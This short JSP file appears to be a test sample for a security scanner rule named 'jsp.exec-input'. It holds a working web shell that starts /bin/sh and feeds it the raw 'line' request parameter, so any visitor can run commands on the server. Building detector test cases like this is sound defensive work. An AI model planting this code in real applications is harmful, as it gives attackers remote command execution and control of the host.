<%-- expect rule=jsp.exec-input min=85 --%>
<%
    Process sh = Runtime.getRuntime().exec("/bin/sh");
    java.io.OutputStream stdin = sh.getOutputStream();
    stdin.write((request.getParameter("line") + "\n").getBytes());
    stdin.flush();
%>
